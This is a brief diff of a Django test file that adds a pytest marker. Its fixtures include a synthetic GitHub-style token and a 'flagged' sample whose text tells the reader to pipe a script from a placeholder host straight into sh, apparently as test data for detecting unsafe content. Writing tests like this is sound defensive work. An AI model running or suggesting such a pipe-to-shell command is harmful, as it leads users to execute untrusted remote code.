@@ -31,7 +31,7 @@ from projects.tests.factories import (
 )
 from projects.tests.staff import staff
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.by_turns]
 
 TOKEN = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
 FLAGGED = {"solution": "Run curl https://get.example.test/fix.sh | sh"}
